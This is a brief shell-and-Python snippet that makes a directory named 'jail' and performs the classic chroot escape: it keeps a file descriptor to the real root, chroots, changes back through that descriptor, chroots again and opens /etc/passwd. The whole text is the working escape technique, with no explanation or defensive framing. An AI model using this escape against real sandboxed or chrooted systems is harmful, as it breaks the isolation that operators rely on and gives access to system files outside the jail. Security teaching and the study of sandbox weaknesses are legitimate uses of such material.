mkdir jail
python3 -c 'import os
top = os.open("/", os.O_RDONLY)
os.chroot("jail")
os.fchdir(top)
os.chroot(".")
open("/etc/passwd")'
